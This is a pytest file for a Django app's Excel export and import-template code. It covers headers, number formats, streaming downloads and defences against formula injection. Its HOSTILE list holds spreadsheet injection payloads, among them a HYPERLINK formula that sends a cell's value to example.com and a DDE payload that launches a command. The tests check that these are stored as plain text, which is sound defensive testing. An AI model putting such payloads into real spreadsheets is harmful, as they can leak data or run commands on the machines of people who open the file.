"""The one writer of exported workbooks (core.tabular.xlsx), opened back with openpyxl."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from gandan.core.tabular import XLSX_TYPE, Column, download, template_csv, template_xlsx, xlsx


def test_a_sheet_has_its_header_in_bold_frozen_then_the_rows():
    content = xlsx("Một tên trang tính dài hơn ba mươi mốt ký tự", ["Mã", "Ngày"],
                   ([f"X{i}", dt.date(2026, 1, i)] for i in range(1, 4)))
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Một tên trang tính dài hơn ba m"  # Excel's 31 characters
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Mã", "Ngày") and [r[0] for r in rows[1:]] == ["X1", "X2", "X3"]
    assert rows[3][1] == dt.datetime(2026, 1, 3)
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold and not sheet["A2"].font.bold
    assert sheet.column_dimensions["A"].width == 12


def test_a_line_above_the_header_and_percent_columns():
    content = xlsx("Tỷ lệ", ["Đơn vị", "Tỷ lệ đúng hạn"], [["Xã A", 0.875], ["Xã B", None]],
                   above=["Tỷ lệ tháng 1/2026"], percent_columns=(2,))
    sheet = load_workbook(io.BytesIO(content)).active
    assert [r for r in sheet.iter_rows(values_only=True)] == [
        ("Tỷ lệ tháng 1/2026", None), ("Đơn vị", "Tỷ lệ đúng hạn"), ("Xã A", 0.875), ("Xã B", None)]
    assert sheet.freeze_panes == "A3" and sheet["B2"].font.bold
    assert sheet["B3"].number_format == "0.0%" and sheet["A3"].number_format == "General"
    assert sheet.column_dimensions["B"].width == len("Tỷ lệ đúng hạn") + 2


def test_a_download_is_an_attachment():
    response = download(b"PK", "chi-tieu.xlsx")
    assert response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="chi-tieu.xlsx"'


HOSTILE = ["=HYPERLINK(\"http://example.com/?\"&A1,\"Bấm vào\")", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1",
           "\r=1+1", "=cmd|' /C calc'!A0"]


def cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None  # a saved workbook has its sheet
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_kept_as_text(cell) -> None:
    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_a_text_that_looks_like_a_formula_is_written_as_text_wherever_it_stands():
    content = xlsx("Ghi chú", [HOSTILE[0], "Số"], [[text, 1] for text in HOSTILE] + [["Bình thường", 2]],
                   above=[HOSTILE[1]], percent_columns=(1,))
    found = cells(content)
    assert [c for c in found if c.data_type == "f"] == []
    hostile = [c for c in found if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
    assert len(hostile) == 2 + len(HOSTILE)  # the carriage return comes back as typed
    for cell in hostile:
        assert_kept_as_text(cell)
    assert found[2].value == HOSTILE[0] and found[4].value == "=HYPERLINK(\"http://example.com/?\"&A1,\"Bấm vào\")"
    normal = next(c for c in found if c.value == "Bình thường")
    assert normal.data_type == "s" and not normal.quotePrefix


def test_numbers_stay_numbers_and_a_typed_minus_stays_text():
    found = cells(xlsx("Số", ["Số", "Chữ"], [[-5, "-5"], [-0.25, "- 0,25"]]))
    assert [(c.value, c.data_type, c.quotePrefix) for c in found[2:]] == [
        (-5, "n", False), ("-5", "s", True), (-0.25, "n", False), ("- 0,25", "s", True)]


@pytest.mark.parametrize("language, help_text", [("vi", "-mô tả"), ("en", "@help")])
def test_the_import_templates_keep_formula_like_text_as_text(language, help_text):
    columns = [Column("=ma", "+code", True, "-mô tả", "@help", example="=1+1"), Column("ten", "name", False, "", "")]
    with translation.override(language):  # the template documents its columns in the reader's language
        book = load_workbook(io.BytesIO(template_xlsx(columns, "Mẫu")))
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c for c in found if c.data_type == "f"] == []
    hostile = [c for c in found if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in hostile} == {"=ma", "+code", help_text, "=1+1"}
    for cell in hostile:
        assert_kept_as_text(cell)
    assert template_csv(columns).decode("utf-8") == "\ufeff'=ma,ten\r\n"


# -- streaming: the same workbook, sent while it is written ---------------------------------------
MIXED = [["Nguyễn Thị Ánh", 3, 2.5, dt.date(2026, 1, 31), dt.datetime(2026, 2, 1, 7, 30), None, True],
         ["  lề trái, <thẻ> & \"ngoặc\" ", -7, 0.125, None, dt.datetime(2025, 12, 31, 23, 59), "", False],
         ["dòng\nmới", 10**12, -1e-9, dt.date(1999, 1, 1), None, "=1+1", None]]


def openpyxl_rows(title, header, rows, above=()):
    """The rows as openpyxl's own writer (the one used before streaming) stores them, read back."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    for values in ([list(above)] if above else []) + [list(header)] + [list(r) for r in rows]:
        sheet.append(values)
    out = io.BytesIO()
    book.save(out)
    return list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows(values_only=True))


def test_the_streamed_workbook_reads_back_as_openpyxl_writes_it():
    header = ["Tên", "Số", "Thực", "Ngày", "Lúc", "Trống", "Có"]
    content = xlsx("Hỗn hợp", header, MIXED, above=["Địa bàn chưa có người phụ trách", "Xã A"])
    got = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    expected = openpyxl_rows("Hỗn hợp", header, [[None if v == "" else v for v in r] for r in MIXED],
                             above=["Địa bàn chưa có người phụ trách", "Xã A"])
    assert got == expected
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["D3"].number_format == "dd/mm/yyyy" and sheet["E3"].number_format == "dd/mm/yyyy hh:mm"


def test_a_row_longer_than_the_header_keeps_every_cell():
    rows = list(load_workbook(io.BytesIO(xlsx("Dài", ["A"], [[1, 2, 3], ["x"]]))).active.iter_rows(values_only=True))
    assert rows == [("A", None, None), (1, 2, 3), ("x", None, None)]


def test_a_download_streams_while_the_rows_are_read_and_in_the_request_language():
    from django.utils import translation
    from django.utils.translation import gettext_lazy

    from gandan.core.tabular import FLUSH_ROWS, xlsx_download

    read = []

    def rows():
        for i in range(3 * FLUSH_ROWS):
            read.append(i)
            yield [f"H{i:05d}", gettext_lazy("có"), i]

    with translation.override("en"):
        response = xlsx_download("cho-trong.xlsx", "Chỗ trống", ["Mã", "Có", "Số"], rows())
    assert response.streaming and response["Content-Type"] == XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="cho-trong.xlsx"'
    stream = iter(response.streaming_content)
    chunks = [next(stream)]
    assert read == [], "the download starts before the first row is read"
    chunks.append(next(stream))
    assert len(read) < 3 * FLUSH_ROWS, "and goes on while the rows are read"
    chunks += list(stream)
    values = list(load_workbook(io.BytesIO(b"".join(chunks))).active.iter_rows(values_only=True))
    assert len(values) == 1 + 3 * FLUSH_ROWS and values[1] == ("H00000", "yes", 0)
    assert values[-1] == (f"H{3 * FLUSH_ROWS - 1:05d}", "yes", 3 * FLUSH_ROWS - 1)
